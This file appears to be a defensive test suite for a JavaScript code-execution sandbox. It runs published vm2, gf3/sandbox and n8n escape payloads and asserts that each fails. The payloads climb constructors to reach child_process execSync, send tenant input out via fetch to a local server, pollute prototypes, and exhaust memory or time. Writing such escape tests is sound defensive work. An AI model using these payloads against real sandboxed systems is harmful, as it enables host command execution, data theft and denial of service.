// The escape suite: hostile snippets against the code step's sandbox (nodes/code/). Each
// test asserts that its escape FAILED — a specific error code, or an output that shows no
// host object — that nothing leaked (an env canary, a file the payload tries to create, a
// local HTTP server it tries to reach, host prototypes), and that afterwards the host is alive
// and a normal snippet still runs. Payloads are adapted from the published vm2 escapes
// (CVE-2022-36067, CVE-2023-29017, -30547, -32314, -37466, -37903), the gf3/sandbox and
// HexuL vm escapes, and the n8n expression/Code node advisories (CVE-2025-68613 and its
// template-literal bypass).
import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { inspect, types } from 'node:util';
import { expect } from 'chai';
import { runCode, type CodeRunRequest, type CodeRunResult } from '../../nodes/code/run-code.js';
import { SandboxPool } from '../../nodes/code/sandbox-pool.js';
import type { SandboxIsolation } from '../../nodes/code/sandbox-bootstrap.js';
import { MAX_LOG_LINE, MAX_LOG_LINES } from '../../nodes/code/limits.js';

const CANARY = `tadfuq-canary-${randomUUID()}`;
const PWNED = path.join(os.tmpdir(), `tadfuq-pwned-${randomUUID()}`);
const NODE_GLOBALS = ['process', 'require', 'module', 'exports', 'Buffer', 'global', '__dirname', '__filename', 'setTimeout', 'setInterval', 'setImmediate', 'queueMicrotask', 'fetch', 'XMLHttpRequest', 'WebSocket', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'ivm', '_ivm'];

let server: http.Server;
let hits = 0;
let origin = '';

type Hostile = Omit<CodeRunRequest, 'source'>;

/** The pool of the isolation mode under test (the suite runs once per mode). */
let pool: SandboxPool;
let isolation: SandboxIsolation;

async function attempt(source: string, options: Hostile = {}): Promise<CodeRunResult> {
  return runCode({ source, input: { tenant: 'acme', secret: 'tenant-data' }, ...options }, { pool });
}

/** Nothing of the host leaked, nothing was written, nobody was called, nothing was polluted. */
function expectContained(result: CodeRunResult): void {
  expect(JSON.stringify(result)).not.to.include(CANARY);
  expect(existsSync(PWNED), `${PWNED} was created`).to.equal(false);
  expect(hits, 'the local HTTP server was reached').to.equal(0);
  const probe = {} as Record<string, unknown>;
  for (const key of ['polluted', 'toJSON', 'hijacked']) expect(probe[key], `Object.prototype.${key}`).to.equal(undefined);
  expect(([] as unknown as Record<string, unknown>).polluted).to.equal(undefined);
}

/** The host is alive and a normal snippet still runs in a clean sandbox. */
async function expectHealthy(): Promise<void> {
  const r = await runCode({ source: 'return [input.n + 1, typeof process, typeof require, ({}).polluted];', input: { n: 1 } }, { pool });
  expect(r).to.deep.include({ ok: true, output: [2, 'undefined', 'undefined', null] });
}

/**
 * In a compartment the same attempts fail earlier and with other messages: `this` is undefined
 * (strict mode), unknown globals read as undefined, the Function constructor reached through
 * prototypes throws, and intrinsics are frozen.
 */
const REFUSED_IN_COMPARTMENT = /is not defined|Cannot read properties of undefined|is not a function|not a valid constructor|is not a constructor|not extensible|read only|Strict mode code|Cannot convert undefined|Cannot assign to read only|Cannot define property|Cannot redefine property|Cannot delete property/;

/** A code_error from the compartment's own refusals (only in compartment mode). */
function refusedInCompartment(result: CodeRunResult): boolean {
  return isolation === 'compartment' && !result.ok && result.error.code === 'code_error' && REFUSED_IN_COMPARTMENT.test(result.error.message);
}

function failed(result: CodeRunResult, code: string, message?: RegExp): void {
  expect(result.ok, JSON.stringify(result)).to.equal(false);
  if (result.ok) return;
  expect(result.error.code, result.error.message).to.equal(code);
  if (message && code === 'code_error' && refusedInCompartment(result)) return;
  if (message) expect(result.error.message).to.match(message);
}

/**
 * An escape attempt whose context-mode outcome is a harmless output: in a compartment it may
 * instead be refused outright (a code_error from a frozen intrinsic or the tamed Function
 * constructor). Either way nothing escaped; expectContained() checks that separately.
 */
function refusedOrReturned(result: CodeRunResult, output: unknown): void {
  if (refusedInCompartment(result)) return;
  returned(result, output);
}

/** For attacks V8 stops in more than one way (the memory limit, or by giving up on the isolate). */
function failedWithOneOf(result: CodeRunResult, codes: string[]): void {
  expect(result.ok, JSON.stringify(result)).to.equal(false);
  if (!result.ok) expect(codes, result.error.message).to.include(result.error.code);
  if (!result.ok && result.error.code === 'sandbox_crashed') expect(result.error.retryable).to.equal(true);
}

function returned(result: CodeRunResult, output: unknown): void {
  expect(result, JSON.stringify(result)).to.deep.include({ ok: true, output });
}

/** One hostile snippet: run it, check the specific expectation, then the common ones. */
function hostile(title: string, source: string | (() => string), check: (r: CodeRunResult) => void, options: Hostile = {}): void {
  it(title, async () => {
    const r = await attempt(typeof source === 'function' ? source() : source, options);
    check(r);
    expectContained(r);
    await expectHealthy();
  });
}

for (const mode of ['compartment', 'context'] as const) describe(`code sandbox: escape attempts (${mode} isolation)`, function () {
  this.timeout(20_000);

  before(async () => {
    isolation = mode;
    pool = new SandboxPool({ isolation: mode });
    process.env.TADFUQ_ESCAPE_CANARY = CANARY;
    server = http.createServer((req, res) => {
      hits++;
      res.end('stolen');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    await expectHealthy(); // starts the pool
  });

  after(async () => {
    await pool.close();
    delete process.env.TADFUQ_ESCAPE_CANARY;
    rmSync(PWNED, { force: true });
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  describe('reaching Node from inside', () => {
    hostile("this.constructor.constructor('return process')()", "return this.constructor.constructor('return process')();", (r) => failed(r, 'code_error', /ReferenceError: process is not defined/));

    hostile('the global object has no Node globals', "const g = Function('return this')();\nreturn Object.getOwnPropertyNames(g);", (r) => {
      if (isolation === 'compartment') return refusedOrReturned(r, 'strict functions have no global this'); // Function() is strict there
      expect(r.ok).to.equal(true);
      const names = (r as { output: string[] }).output;
      expect(names).to.include('JSON');
      for (const name of NODE_GLOBALS) expect(names, name).not.to.include(name);
    });

    hostile('process.env', 'return process.env;', (r) => failed(r, 'code_error', /ReferenceError: process is not defined/));

    hostile('the global object of the run has no Node globals', 'return Object.getOwnPropertyNames(globalThis);', (r) => {
      expect(r.ok, JSON.stringify(r)).to.equal(true);
      const names = (r as { output: string[] }).output;
      expect(names).to.include('JSON');
      for (const name of NODE_GLOBALS) expect(names, name).not.to.include(name);
    });

    hostile('globalThis.process and friends', 'return [globalThis.process, globalThis.env, globalThis.global, globalThis.Buffer] ;', (r) => returned(r, [null, null, null, null]));

    hostile("require('child_process')", () => `require('child_process').execSync('touch ${PWNED}');`, (r) => failed(r, 'code_error', /require is not defined/));

    hostile('module.constructor._load', "return module.constructor._load('child_process');", (r) => failed(r, 'code_error', /module is not defined/));

    hostile("import('child_process')", "const cp = await import('child_process');\nreturn typeof cp;", (r) => failed(r, 'code_error', /Not supported/));

    hostile('gf3/sandbox: the import() promise constructor', () => `const ret = import('oops!');\nret.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}');`, (r) =>
      failed(r, 'code_error'),
    );

    hostile('fetch() to a local server', () => `await fetch('${origin}/steal?d=' + JSON.stringify(input));`, (r) => failed(r, 'code_error', /fetch is not defined/));

    hostile('XMLHttpRequest and WebSocket', () => `new WebSocket('${origin.replace('http', 'ws')}');\nnew XMLHttpRequest();`, (r) => failed(r, 'code_error', /WebSocket is not defined/));

    hostile("eval('process')", "return eval('process.env');", (r) => failed(r, 'code_error', /process is not defined/));

    hostile('arguments.callee.caller', "const caller = arguments.callee.caller;\nreturn caller && caller.constructor('return process')();", (r) =>
      failed(r, 'code_error', /'caller', 'callee', and 'arguments' properties may not be accessed/),
    );

    hostile(
      'a toString that climbs arguments.callee.caller is never called by the host',
      () =>
        `const a = {};\na.toString = function () {\n  const cc = arguments.callee.caller;\n  return cc.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}').toString();\n};\nreturn a;`,
      (r) => failed(r, 'code_output_not_json', /output\.toString is a function/),
    );

    hostile('n8n CVE-2025-68613: this.process.mainModule.require', "return (function () { return this.process.mainModule.require('child_process').execSync('id').toString(); })();", (r) =>
      failed(r, 'code_error', /Cannot read properties of undefined \(reading 'mainModule'\)/),
    );

    hostile('n8n template-literal bypass: this[`constructor`][`constructor`]', 'return this[`constructor`][`constructor`](`return process`)();', (r) => failed(r, 'code_error', /process is not defined/));

    hostile("n8n-style __lookupGetter__ walk", "return ({}).__lookupGetter__('__proto__').constructor.constructor('return typeof process + typeof require')();", (r) =>
      refusedOrReturned(r, 'undefinedundefined'),
    );

    hostile('with (global) { process }', "with (Function('return this')()) { return [typeof process, typeof require, typeof console.log]; }", (r) => returned(r, ['undefined', 'undefined', 'function']));
  });

  describe('published vm2 escapes', () => {
    hostile('CVE-2022-36067: Error.prepareStackTrace CallSite.getThis()', "globalThis.Error.prepareStackTrace = (err, traces) => traces.map((t) => { const self = t.getThis(); return self && self.process ? 'ESCAPED' : 'contained'; });\nconst frames = new Error().stack;\nreturn { escaped: frames.includes('ESCAPED'), process: frames.constructor.constructor('return typeof process')() };", (r) =>
      refusedOrReturned(r, { escaped: false, process: 'undefined' }),
    );

    hostile(
      'CVE-2023-29017: prepareStackTrace on an async error',
      () =>
        `Error.prepareStackTrace = (e, frames) => {\n  frames.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}');\n};\nawait (async () => {}).constructor('return process')();`,
      (r) => failed(r, 'code_error', /process is not defined/),
    );

    hostile(
      'CVE-2023-30547: exception from a Proxy getPrototypeOf trap',
      () =>
        `const err = {};\nconst handler = { getPrototypeOf(target) { (function stack() { new Error().stack; stack(); })(); } };\nconst proxiedErr = new Proxy(err, handler);\ntry {\n  throw proxiedErr;\n} catch ({ constructor: c }) {\n  c.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}');\n}`,
      (r) => failed(r, 'code_error', /process is not defined/),
    );

    hostile(
      'CVE-2023-32314: Proxy apply trap on Error name.toString',
      () =>
        `const err = new Error();\nerr.name = { toString: new Proxy(() => '', { apply(target, thiz, args) {\n  const process = args.constructor.constructor('return process')();\n  throw process.mainModule.require('child_process').execSync('touch ${PWNED}').toString();\n} }) };\ntry { err.stack; String(err); } catch (stdout) { return { caught: String(stdout) }; }\nreturn 'no throw';`,
      (r) => {
        const caught = (r as { output?: { caught?: string } }).output?.caught;
        if (isolation === 'compartment' && typeof caught === 'string' && REFUSED_IN_COMPARTMENT.test(caught)) return;
        returned(r, { caught: 'ReferenceError: process is not defined' });
      },
    );

    hostile(
      'CVE-2023-37466: Promise species FakePromise',
      () =>
        `async function fn() { (function stack() { new Error().stack; stack(); })(); }\nconst p = fn();\np.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => err.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}')); } } };\np.then();\nreturn 'returned';`,
      // The published payload recurses with `new Error().stack` on every frame: here it runs
      // into the memory limit (or the time limit) long before anything else.
      (r) => failedWithOneOf(r, ['code_memory_limit', 'code_timeout', 'sandbox_crashed']),
      { memoryMb: 16, timeoutMs: 3000 },
    );

    hostile(
      'CVE-2023-37903: custom inspect symbol through WebAssembly.compileStreaming',
      () =>
        `const customInspectSymbol = Symbol.for('nodejs.util.inspect.custom');\nconst obj = { [customInspectSymbol]: (depth, opt, inspect) => { inspect.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}'); }, valueOf: undefined, constructor: undefined };\nWebAssembly.compileStreaming(obj).catch(() => {});`,
      (r) => failed(r, 'code_error', /WebAssembly is not defined/),
    );

    it('CVE-2023-37903 variant: a returned object with a custom inspect symbol is inert in the host', async () => {
      const r = await attempt(
        `return { [Symbol.for('nodejs.util.inspect.custom')]: (d, o, inspect) => inspect.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}'), [Symbol.toPrimitive]: () => 'x', ok: 1 };`,
      );
      returned(r, { ok: 1 });
      const output = (r as { output: object }).output;
      expect(Object.getOwnPropertySymbols(output)).to.deep.equal([]);
      expect(inspect(output)).to.equal('{ ok: 1 }');
      expect(String(output)).to.equal('[object Object]');
      expectContained(r);
      await expectHealthy();
    });

    hostile('vm2 host exception from this.process.removeListener()', "try {\n  this.process.removeListener();\n} catch (hostException) {\n  return typeof hostException.constructor.constructor('return this')().process;\n}", (r) =>
      refusedOrReturned(r, 'undefined'),
    );

    hostile(
      'gf3/sandbox: exception from toLocaleString()',
      () => `try {\n  toLocaleString();\n} catch (pp) {\n  pp.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${PWNED}');\n}\nreturn 'no exception';`,
      // A compartment's global object inherits toLocaleString: nothing throws, nothing to catch.
      (r) => (isolation === 'compartment' ? returned(r, 'no exception') : failed(r, 'code_error', /process is not defined/)),
    );

    hostile(
      'SandDriller: Proxy construct trap returning a function',
      "const Ctor = new Proxy(class A {}, { construct() { return function () { return Object.getPrototypeOf(this).constructor.constructor('return process')(); }; } });\nreturn new Ctor()().mainModule.require('child_process');",
      (r) => failed(r, 'code_error', /process is not defined/),
    );
  });

  describe('tampering with what crosses the boundary', () => {
    it('polluting Object.prototype inside does not reach the host', async () => {
      const r = await attempt("Object.prototype.polluted = 'yes';\nArray.prototype.polluted = 1;\nObject.prototype.hijacked = () => 1;\nreturn { fine: ({}).polluted };");
      refusedOrReturned(r, { fine: 'yes' }); // refused in a compartment: Object.prototype is frozen
      expectContained(r);
      await expectHealthy();
    });

    hostile('Object.prototype.toJSON inside only changes the snippet’s own output', "Object.prototype.toJSON = function () { return 'hijacked'; };\nJSON.stringify = () => 'broken';\nreturn { a: 1 };", (r) => refusedOrReturned(r, 'hijacked'));

    it('a __proto__ key in the output stays a plain key', async () => {
      const r = await attempt('return JSON.parse(\'{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}\');');
      expect(r.ok).to.equal(true);
      const output = (r as { output: Record<string, unknown> }).output;
      expect(Object.getPrototypeOf(output)).to.equal(Object.prototype);
      expect(Object.getOwnPropertyNames(output)).to.deep.equal(['__proto__', 'constructor']);
      expect((output as { polluted?: unknown }).polluted).to.equal(undefined);
      expectContained(r);
      await expectHealthy();
    });

    hostile("polluting the input's prototype", 'input.__proto__.polluted = 1;\nObject.getPrototypeOf(nodes).polluted = 1;\nvars.constructor.prototype.polluted = 1;\nreturn input.polluted;', (r) => refusedOrReturned(r, 1));

    it('getters on the returned object run inside; the host gets data properties', async () => {
      const r = await attempt("return { get x() { return this.constructor.constructor('return typeof process')(); }, get y() { return 42; } };");
      refusedOrReturned(r, { x: 'undefined', y: 42 });
      if (!r.ok) return; // a compartment refuses the getter's Function constructor
      const output = (r as { output: object }).output;
      for (const key of ['x', 'y']) {
        const d = Object.getOwnPropertyDescriptor(output, key);
        expect(d, key).to.have.property('value');
        expect(d?.get, key).to.equal(undefined);
      }
      expectContained(r);
      await expectHealthy();
    });

    it('a returned Proxy arrives as a plain object', async () => {
      const r = await attempt("return new Proxy({}, {\n  ownKeys: () => ['a', 'b'],\n  getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }),\n  get: (t, k) => k === 'a' ? 1 : { nested: true },\n});");
      returned(r, { a: 1, b: { nested: true } });
      expect(types.isProxy((r as { output: unknown }).output)).to.equal(false);
      expectContained(r);
      await expectHealthy();
    });

    hostile('a returned Proxy whose traps throw', "return new Proxy({}, { ownKeys() { throw new Error('trap'); } });", (r) => failed(r, 'code_error', /Error: trap/));

    hostile("toJSON trying to return the host's process", "return { toJSON() { return this.constructor.constructor('return process')(); } };", (r) => failed(r, 'code_error', /process is not defined/));

    hostile('a thrown Proxy with throwing getters', "throw new Proxy({}, { get() { throw new Proxy({}, { get() { throw 1; } }); } });", (r) => failed(r, 'code_error'));

    // In a compartment SES ignores the assignment (the realm's stack formatting stays), so the error arrives.
    hostile('Error.prepareStackTrace that never returns', 'Error.prepareStackTrace = () => { for (;;) {} };\nthrow new Error("x");', (r) => (isolation === 'compartment' ? failed(r, 'code_error', /^Error: x/) : failed(r, 'code_timeout')), { timeoutMs: 200 });
  });

  describe('exhausting time and memory', () => {
    hostile('an infinite loop', 'while (true) {}', (r) => failed(r, 'code_timeout'), { timeoutMs: 200 });

    hostile('an infinite promise chain (microtask flood)', 'for (;;) await null;', (r) => failed(r, 'code_timeout'), { timeoutMs: 200 });

    hostile('a microtask flood left running after return', '(async () => { for (;;) await null; })();\nreturn 1;', (r) => failed(r, 'code_timeout'), { timeoutMs: 200 });

    hostile('a recursive then() chain awaiting forever', 'const loop = () => Promise.resolve().then(loop);\nloop();\nawait new Promise(() => {});', (r) => failed(r, 'code_timeout'), { timeoutMs: 200 });

    hostile('a promise that never settles', 'await new Promise(() => {});', (r) => failed(r, 'code_timeout'), { timeoutMs: 100 });

    hostile('deep recursion', 'function f(n) { return f(n + 1) + 1; }\nreturn f(0);', (r) => failed(r, 'code_error', /RangeError: Maximum call stack size exceeded/));

    hostile('a 1 GB string', "return 'x'.repeat(2 ** 30).length;", (r) => failed(r, 'code_error', /Invalid string length/));

    hostile('doubling a string until it breaks', "let s = 'x';\nfor (;;) s += s;", (r) => failed(r, 'code_error', /Invalid string length/));

    it('returning a 256 MB string fails the run; the host survives and the next run succeeds', async () => {
      const r = await attempt("return 'x'.repeat(256 * 1024 * 1024);", { timeoutMs: 5000 });
      // Measured inside the isolate before anything is copied out: never reaches the host.
      failedWithOneOf(r, ['code_output_too_large', 'code_memory_limit', 'sandbox_crashed']);
      expectContained(r);
      await expectHealthy();
    });

    it('one allocation larger than the memory limit crashes only its sandbox process', async () => {
      const r = await attempt('return Array.from({ length: 50e6 }, () => 0).length;', { timeoutMs: 10_000 });
      failedWithOneOf(r, ['sandbox_crashed', 'code_memory_limit']);
      expectContained(r);
      await expectHealthy();
    });

    hostile(
      'a memory bomb',
      'const keep = [];\nfor (;;) keep.push(new Array(1e5).fill({ x: 1 }));',
      // V8 sometimes gives up on the isolate as a whole: then the process is replaced.
      (r) => failedWithOneOf(r, ['code_memory_limit', 'sandbox_crashed']),
      { memoryMb: 16, timeoutMs: 10_000 },
    );

    hostile('a WebAssembly memory bomb', 'const pages = [];\nfor (let i = 0; i < 100; i++) pages.push(new WebAssembly.Memory({ initial: 16384 }));', (r) => failed(r, 'code_error', /WebAssembly is not defined/));

    hostile('a 2 GB ArrayBuffer', 'return new ArrayBuffer(2 ** 31).byteLength;', (r) => failed(r, 'code_error', /RangeError/));

    hostile('many 64 MB ArrayBuffers', 'const keep = [];\nfor (let i = 0; i < 64; i++) keep.push(new ArrayBuffer(64 * 1024 * 1024));\nreturn keep.length;', (r) =>
      failed(r, 'code_error', /RangeError: Array buffer allocation failed/),
    );

    hostile('SharedArrayBuffer + Atomics.wait hang', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);', (r) => failed(r, 'code_error', /Atomics is not defined/));

    hostile('a huge output', "return new Array(1e6).fill('0123456789');", (r) => failed(r, 'code_output_too_large'));

    hostile('a console flood', "for (let i = 0; i < 1e5; i++) console.log('x'.repeat(10000));\nreturn 'done';", (r) => {
      returned(r, 'done');
      expect(r.logs).to.have.length(MAX_LOG_LINES);
      for (const line of r.logs) expect(line.length).to.be.at.most(MAX_LOG_LINE + 1);
      expect(r.logs.at(-1)).to.match(/more console lines dropped/);
    });

    hostile('timers that would outlive the run', "setTimeout(() => { throw new Error('later'); }, 10);", (r) => failed(r, 'code_error', /setTimeout is not defined/));

    hostile('setInterval, setImmediate and queueMicrotask', "return [typeof setInterval, typeof setImmediate, typeof queueMicrotask, typeof FinalizationRegistry, typeof WeakRef];", (r) =>
      returned(r, ['undefined', 'undefined', 'undefined', 'undefined', 'undefined']),
    );
  });

  describe('isolation between runs', () => {
    it("one run's globals and prototypes are gone in the next", async () => {
      const a = await attempt("globalThis.stash = input.secret;\nreturn 1;");
      returned(a, 1);
      // Refused in a compartment (frozen intrinsics); in a context it only changes that context.
      const a2 = await attempt("Object.prototype.leak = input.secret;\nError.prepareStackTrace = () => 'hijacked';\nreturn 1;");
      refusedOrReturned(a2, 1);
      const b = await attempt("return [typeof stash, ({}).leak ?? null, new Error('e').stack === 'hijacked'];", { input: { tenant: 'other' } });
      returned(b, ['undefined', null, false]);
      expectContained(b);
      await expectHealthy();
    });

    it('concurrent runs do not see each other', async () => {
      const [slow, probe] = await Promise.all([
        attempt("globalThis.shared = input.secret;\nlet i = 0; while (i < 2e7) i++;\nreturn globalThis.shared;", { input: { secret: 'tenant-a' } }),
        attempt("await null;\nreturn [typeof shared, Object.keys(globalThis)];", { input: { secret: 'tenant-b' } }),
      ]);
      returned(slow, 'tenant-a');
      expect(probe.ok, JSON.stringify(probe)).to.equal(true);
      const [sharedType, keys] = (probe as { output: [string, string[]] }).output;
      expect(sharedType).to.equal('undefined');
      // A compartment's own globals are the realm intrinsics it is given; a context has none.
      expect(keys).to.deep.equal(isolation === 'compartment' ? ['Date', 'Math', 'Intl', 'Float32Array', 'Float64Array', 'console'].filter((k) => keys.includes(k)) : []);
      expect(keys).not.to.include('shared');
      expectContained(probe);
      await expectHealthy();
    });

    it('the sandbox process has no environment (no secrets even after an escape)', async function () {
      // The canary is in the host's env; the sandbox processes are started with env: {}.
      expect(process.env.TADFUQ_ESCAPE_CANARY).to.equal(CANARY);
      const r = await attempt('return Object.getOwnPropertyNames(globalThis).filter((k) => /env|secret|canary/i.test(k));');
      returned(r, []);
      expectContained(r);
      const pids = pool.pids();
      expect(pids).to.have.length.above(0);
      if (!existsSync(`/proc/${pids[0]}/environ`)) return this.skip(); // Linux only
      for (const pid of pids) {
        // Only what fork() itself adds for the IPC channel.
        const names = readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean).map((kv) => kv.split('=')[0]);
        expect(names, `environment of sandbox process ${pid}`).to.satisfy((n: string[]) => n.every((k) => k.startsWith('NODE_CHANNEL_')));
        const argv = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');
        expect(argv).to.include.members(['--no-node-snapshot', '--max-old-space-size=256']);
      }
      await expectHealthy();
    });
  });

  describe('supervision', () => {
    it('a killed sandbox process fails only the runs it held, and is replaced', async () => {
      const pool = new SandboxPool({ processes: 2, concurrency: 1 });
      try {
        await pool.start();
        const [victim, bystander] = pool.pids();
        const busy = (n: number) =>
          runCode({ source: 'let i = 0; while (i < 1e9) i++; return input;', input: n, timeoutMs: 3000 }, { pool }).then((r) => ({ n, r }));
        const runs = [busy(1), busy(2)];
        await new Promise((r) => setTimeout(r, 200));
        process.kill(victim!, 'SIGKILL');
        const results = await Promise.all(runs);
        const crashed = results.filter(({ r }) => !r.ok && r.error.code === 'sandbox_crashed');
        expect(crashed, JSON.stringify(results)).to.have.length(1);
        expect((crashed[0]!.r as { error: { retryable: boolean } }).error.retryable).to.equal(true);
        const other = results.find((x) => x !== crashed[0])!;
        expect(other.r.ok || (other.r as { error: { code: string } }).error.code === 'code_timeout').to.equal(true);
        expect(pool.pids()).to.include(bystander);
        const after = await runCode({ source: 'return 7;' }, { pool });
        returned(after, 7);
        expect(pool.pids()).to.have.length(2);
        expect(pool.pids()).not.to.include(victim);
      } finally {
        await pool.close();
      }
    });

    it('the host watchdog kills a sandbox process that stops answering', async () => {
      const pool = new SandboxPool({ processes: 1, watchdogMarginMs: 300 });
      try {
        await pool.start();
        const [pid] = pool.pids();
        process.kill(pid!, 'SIGSTOP');
        const started = Date.now();
        const r = await runCode({ source: 'return 1;', timeoutMs: 100 }, { pool });
        failed(r, 'code_timeout', /sandbox process was stopped and replaced/);
        expect(Date.now() - started).to.be.below(2000);
        returned(await runCode({ source: 'return 2;' }, { pool }), 2);
        expect(pool.pids()).not.to.include(pid);
      } finally {
        await pool.close();
      }
    });

    it('cancellation stops a running snippet at once', async () => {
      const controller = new AbortController();
      const started = Date.now();
      setTimeout(() => controller.abort(), 100);
      const r = await runCode({ source: 'while (true) {}', timeoutMs: 10_000, signal: controller.signal }, { pool });
      failed(r, 'code_cancelled');
      expect(Date.now() - started).to.be.below(1000);
      await expectHealthy();
    });
  });
});
